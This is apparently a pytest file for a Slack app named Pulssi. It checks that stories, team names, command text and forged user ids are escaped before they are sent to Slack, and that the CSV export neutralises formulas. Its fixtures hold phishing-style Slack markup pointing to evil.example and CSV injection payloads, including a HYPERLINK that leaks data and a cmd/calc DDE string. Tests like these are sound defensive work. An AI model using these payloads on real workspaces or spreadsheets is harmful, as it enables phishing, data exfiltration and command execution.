"""Issue 15: people's text is text.

Stories, customer names and team names full of Slack markup go in through signed /win and /pulse requests;
nothing Pulssi then sends to the fake Slack (channel posts, DMs, ephemeral replies, the Home tab, the report
and its notification) carries a broadcast, a mention or a disguised link: `&`, `<` and `>` arrive escaped.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from sqlmodel import select

from storage.models import PulseRound, Team
from tests.conftest import BOTH_BACKENDS
from tests.harness import TEAM_ID, Harness
from tests.pulse_helpers import ADMIN, CHANNEL, make_team

MEMBERS = ["U001", "U002", "U003"]
STORY = "<!channel> Read <http://evil.example/phish|the help centre> & ask <@U0VICTIM> <!here> <!subteam^S1>"
CUSTOMER = "<!here> Acme <http://evil.example|acme.com>"
TEAM_NAME = "<!channel> & <@U0VICTIM> Co"
MARKUP = ("<!channel>", "<!here>", "<http://evil", "<@U0VICTIM>", "<!subteam")


def _sent_text(call: Any) -> str:
    """Every string the app gave Slack in one call (json.dumps keeps `<` and `>` as they are)."""
    return json.dumps(call.params, ensure_ascii=False)


def _parsed_strings(value: Any) -> list[str]:
    """The strings of a call that Slack parses for markup: not those of plain_text objects (headers, modal
    titles, options, buttons), which Slack shows as they are, so they carry people's text as typed."""
    if isinstance(value, str):
        if value[:1] in "[{":
            try:
                return _parsed_strings(json.loads(value))  # blocks or files sent as a JSON string
            except ValueError:
                pass
        return [value]
    if isinstance(value, dict):
        if value.get("type") == "plain_text":
            return []
        return [text for inner in value.values() for text in _parsed_strings(inner)]
    if isinstance(value, list):
        return [text for inner in value for text in _parsed_strings(inner)]
    return []


def assert_no_markup(harness: Harness) -> None:
    for call in harness.fake.calls:
        text = "\n".join(_parsed_strings(call.params))
        for markup in MARKUP:
            assert markup not in text, f"{call.method} carried {markup}: {text[:400]}"


def win_values(story: str, customer: str, colleagues: list[str]) -> dict[str, Any]:
    return {
        "story": {"value": {"type": "plain_text_input", "value": story}},
        "customer": {"value": {"type": "plain_text_input", "value": customer}},
        "colleagues": {"value": {"type": "multi_users_select", "selected_users": colleagues}},
    }


@BOTH_BACKENDS
def test_markup_in_stories_customers_and_team_names_is_posted_as_text(harness: Harness) -> None:
    make_team(harness, MEMBERS)
    harness.sender.command("/pulse", f"rename {TEAM_NAME}", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url")
    harness.sender.view_submission(
        user_id="U001", callback_id="win_modal", values=win_values(STORY, CUSTOMER, ["U003"])
    )
    harness.fake.wait_for("chat.postMessage", count=2)  # the celebration and the thank-you DM
    harness.fake.wait_for("chat.postEphemeral")
    celebration = next(c for c in harness.fake.calls_to("chat.postMessage") if c.params["channel"] == CHANNEL)
    shown = _sent_text(celebration)
    assert "&lt;!channel&gt;" in shown and "&lt;http://evil.example|acme.com&gt;" in shown
    assert "&amp; ask" in shown

    # The Home tab of a team member (team name, the team's wins) and of the author (own wins).
    for user in ("U002", "U001"):
        harness.sender.event({"type": "app_home_opened", "user": user, "tab": "home", "channel": f"D{user}"})
        harness.fake.wait_for("views.publish", predicate=lambda c, u=user: c.params.get("user_id") == u)
    assert "&lt;!here&gt;" in json.dumps(harness.fake.home_views["U002"], ensure_ascii=False)

    # The report ends on the top win, its notification names the team; unknown names are echoed escaped.
    harness.sender.command("/cxreport", "all", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "most celebrated win" in json.dumps(c.params))
    harness.sender.command("/cxreport", "#support", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "&lt;@U0VICTIM&gt; Co" in json.dumps(c.params))
    harness.sender.command("/cxreport", "<!channel>", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "No team matches" in json.dumps(c.params))
    harness.sender.command("/pulse", "status", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "&lt;!channel&gt; &amp; " in json.dumps(c.params))
    harness.fake.wait_for("files.completeUploadExternal", count=2, timeout=30)  # the charts, before the app stops
    assert_no_markup(harness)


@BOTH_BACKENDS
def test_the_export_shows_formulas_as_text(harness: Harness) -> None:
    make_team(harness, MEMBERS)
    harness.sender.command("/pulse", "rename -2+3 team", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url")
    stories = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
    for index, story in enumerate(stories):
        harness.sender.view_submission(
            user_id="U001", callback_id="win_modal", values=win_values(story, "", []), view_id=f"V{index}"
        )
        harness.fake.wait_for("chat.postEphemeral", count=index + 1)
    harness.sender.command("/pulse", "export", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("files.completeUploadExternal")
    [upload] = [f for f in harness.fake.uploaded_files if f.filename == "pulssi-export.csv"]
    rows = list(csv.DictReader(io.StringIO(upload.content.decode())))
    wins = [row for row in rows if row["section"] == "win"]
    assert sorted(row["text"] for row in wins) == sorted("'" + story.strip() for story in stories)  # stored stripped
    assert {row["team"] for row in wins} == {"'-2+3 team"}
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_a_team_name_is_text_in_every_reply_and_home_notice_that_names_the_team(harness: Harness) -> None:
    """Attack: an admin names a team `<http://evil|…>`, `<!channel>`… to show managers and members a disguised
    link: the report's "which team" note, the team language reply, the status refusal and the Home tab's notices
    about a channel Pulssi can't post in and about undeliverable pulses all quote the name as text."""
    make_team(harness, MEMBERS)
    harness.fake.add_user("U009")  # in the channel, not in the team: refused the status
    name = f"{TEAM_NAME} <http://evil.example|Re-authorise>"
    harness.sender.command("/pulse", f"rename {name}", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url")
    with harness.db.session_scope() as session:
        team = session.exec(select(Team)).one()
        team.channel_problem = "not_in_channel"
        assert team.id is not None
        session.add(team)
        session.add(
            PulseRound(
                workspace_id=TEAM_ID,
                team_id=team.id,
                number=1,
                scheduled_for=harness.clock().date(),
                opened_at=harness.clock(),
                closes_at=harness.clock(),
                status="closed",
                invited=5,
                undeliverable=1,
            )
        )
    harness.sender.command("/cxreport", "", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "this channel's team" in json.dumps(c.params))
    harness.sender.command("/pulse", "language team fi", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "is in Finnish now" in json.dumps(c.params))
    harness.sender.command("/pulse", "status", user_id="U009", channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "can see its status" in json.dumps(c.params))
    harness.sender.event({"type": "app_home_opened", "user": ADMIN, "tab": "home", "channel": "DADMIN"})
    harness.fake.wait_for("views.publish", predicate=lambda c: c.params.get("user_id") == ADMIN)
    home = json.dumps(harness.fake.home_views[ADMIN], ensure_ascii=False)
    assert home.count("&lt;http://evil.example|Re-authorise&gt;") >= 2  # both notices name the team
    harness.fake.wait_for("files.completeUploadExternal", timeout=30)  # the report's chart, before the app stops
    assert_no_markup(harness)


def test_user_ids_from_a_crafted_submission_are_text(harness: Harness) -> None:
    """Attack: a crafted view submission puts `U1> <!channel` where Slack puts a user id (a colleague thanked in
    a win, an action's owner), to have the celebration in the team channel, and the action lines of the list
    and the digest, broadcast. Only an id-shaped value becomes a mention; anything else is escaped text."""
    make_team(harness, [*MEMBERS, "UMGR"])
    harness.sender.command("/pulse", "managers <@UMGR>", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url")
    forged = "U003> <!channel"
    harness.sender.view_submission(
        user_id="U001", callback_id="win_modal", values=win_values("We fixed it", "", ["U002", forged])
    )
    celebration = harness.fake.wait_for("chat.postMessage", predicate=lambda c: c.params["channel"] == CHANNEL)[0]
    assert "<@U002>" in _sent_text(celebration) and "U003&gt; &lt;!channel" in _sent_text(celebration)

    harness.sender.command("/pulse", "action", user_id="UMGR", channel_id=CHANNEL)
    view = harness.fake.wait_for("views.open")[0].params["view"]
    harness.sender.view_submission(
        user_id="UMGR",
        callback_id="team_action_modal",
        values={
            "need": {"value": {"type": "static_select", "selected_option": {"value": "autonomy"}}},
            "text": {"value": {"type": "plain_text_input", "value": "Fewer meetings"}},
            "owner": {"value": {"type": "users_select", "selected_user": "U002> <!here"}},
            "due": {"value": {"type": "datepicker", "selected_date": "2099-04-30"}},
        },
        private_metadata=view["private_metadata"],
    )
    harness.fake.wait_for("chat.postMessage", predicate=lambda c: c.params["channel"] == "UMGR")
    harness.sender.command("/pulse", "action list", user_id="UMGR", channel_id=CHANNEL)
    harness.fake.wait_for("response_url", predicate=lambda c: "Fewer meetings" in json.dumps(c.params))
    assert_no_markup(harness)


def test_replies_that_quote_a_commands_text_escape_it(harness: Harness) -> None:
    """Attack: markup in a slash command's text (typed `<!channel>`, which Slack sends as entities and Pulssi
    decodes, or `@here`, which Slack sends as `<!here>`) quoted back by a reply: an unknown subcommand, an
    unknown language, an action number, a schedule Pulssi can't read. Each quote is escaped."""
    make_team(harness, [*MEMBERS, "UMGR"])
    harness.sender.command("/pulse", "managers <@UMGR>", user_id=ADMIN, channel_id=CHANNEL)
    harness.fake.wait_for("response_url")
    typed = [
        ("/pulse", "<!channel>now"),
        ("/pulse", "language <@U0VICTIM>"),
        ("/pulse", "action done <!here>"),
        ("/pulse", "schedule <!here> weekly mon 09:00"),
        ("/pulse", "schedule weekly mon 9:<!subteam^S1>"),
    ]
    for count, (command, text) in enumerate(typed, start=2):
        harness.sender.command(command, text, user_id="UMGR", channel_id=CHANNEL)
        harness.fake.wait_for("response_url", count=count)
    replies = [_sent_text(call) for call in harness.fake.calls_to("response_url")[1:]]
    assert "Unknown command: `&lt;!channel&gt;now`" in replies[0]
    assert "no language `&lt;@U0VICTIM&gt;`" in replies[1]
    assert "&lt;!here&gt;" in replies[2] and "&lt;!here&gt;" in replies[3] and "&lt;!subteam" in replies[4]
    assert_no_markup(harness)
